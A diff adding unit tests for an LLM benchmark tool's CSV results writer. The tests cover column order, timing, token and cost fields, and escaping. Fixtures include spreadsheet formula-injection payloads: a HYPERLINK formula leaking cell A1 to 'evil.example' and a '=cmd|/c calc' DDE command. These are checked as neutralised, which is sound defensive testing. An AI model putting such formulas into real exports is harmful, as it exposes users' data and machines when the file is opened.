@@ -1,0 +1,75 @@
+import { parse } from 'csv-parse/sync';
+import { describe, expect, it } from 'vitest';
+import { makeAttempt } from '../stats/make-attempt.ts';
+import type { ReportInput } from './reporter.ts';
+import { resultsCsv } from './results-csv.ts';
+
+const requiredColumns = [
+  'case_id', 'target', 'prompt', 'repeat', 'attempt', 'final', 'status', 'error_type', 'http_status', 'ttft_ms',
+  'first_output_ms', 'e2e_ms', 'output_tps', 'inter_chunk_mean_ms', 'inter_chunk_p50_ms', 'inter_chunk_p99_ms',
+  'input_tokens', 'output_tokens', 'cached_input_tokens', 'reasoning_tokens', 'tokens_estimated', 'cost_usd',
+  'cost_source', 'finish_reason', 'served_by', 'score', 'passed', 'score_reason', 'error_message', 'started_at', 'output',
+];
+
+function render(records: ReportInput['records']): Record<string, string>[] {
+  const text = resultsCsv.render({ records, summaries: [], run: { runId: 'run-1', simulatedTargets: [] } });
+  return parse(text, { columns: true });
+}
+
+describe('results.csv', () => {
+  it('starts with the documented columns, in order', () => {
+    const text = resultsCsv.render({ records: [], summaries: [], run: { runId: 'run-1', simulatedTargets: [] } });
+    const [header = []] = parse(text) as string[][];
+    expect(header.slice(0, requiredColumns.length)).toEqual(requiredColumns);
+  });
+
+  it('writes one row per attempt with figures, and empty cells for unknown ones', () => {
+    const rows = render([
+      makeAttempt({
+        caseId: 'capital', attempt: 1, final: false,
+        error: { type: 'rate_limited', message: 'slow down', httpStatus: 429, retryAfterMs: 2000 },
+        timing: { headersMs: 12.3456789 },
+      }),
+      makeAttempt({
+        caseId: 'capital', attempt: 2, output: 'Paris',
+        timing: { ttftMs: 123.456789, e2eMs: 1500, outputTps: 41.23456 },
+        usage: { inputTokens: 12, outputTokens: 3, estimated: true },
+        costUsd: 0.0000012, costSource: 'price-table', finishReason: 'stop',
+        score: { score: 1, passed: true, reason: 'equals' },
+      }),
+    ]);
+    expect(rows).toHaveLength(2);
+    expect(rows[0]).toMatchObject({
+      case_id: 'capital', attempt: '1', final: 'false', status: 'error', error_type: 'rate_limited',
+      http_status: '429', error_message: 'slow down', retry_after_ms: '2000', headers_ms: '12.346',
+      ttft_ms: '', cost_usd: '', score: '', passed: '', output: '',
+    });
+    expect(rows[1]).toMatchObject({
+      attempt: '2', final: 'true', status: 'ok', error_type: '', ttft_ms: '123.457', e2e_ms: '1500',
+      output_tps: '41.235', input_tokens: '12', output_tokens: '3', cached_input_tokens: '', tokens_estimated: 'true',
+      cost_usd: '0.0000012', cost_source: 'price-table', score: '1', passed: 'true', score_reason: 'equals', output: 'Paris',
+    });
+  });
+
+  it('neutralises hostile model output and round-trips quotes and line breaks', () => {
+    const outputs = [
+      '=HYPERLINK("http://evil.example/?"&A1,"click")',
+      '  =1+1',
+      '\u200B=cmd|/c calc',
+      '@SUM(A1:A9)',
+      '-2+3',
+      'He said "hi",\nthen left\r\n',
+    ];
+    const rows = render(outputs.map((output, index) => makeAttempt({ caseId: `c${index}`, output })));
+    expect(rows.map((row) => row.output)).toEqual([
+      `'${outputs[0]}`, "'  =1+1", "'\u200B=cmd|/c calc", "'@SUM(A1:A9)", "'-2+3", 'He said "hi",\nthen left\r\n',
+    ]);
+  });
+
+  it('neutralises every text column, not only the output', () => {
+    const [row] = render([
+      makeAttempt({ caseId: '=case', error: { type: 'unknown', message: '+evil' }, toolCalls: [{ name: 'x', arguments: {} }] }),
+    ]);
+    expect(row).toMatchObject({ case_id: "'=case", error_message: "'+evil", tool_calls: '[{"name":"x","arguments":{}}]' });
+  });
+});
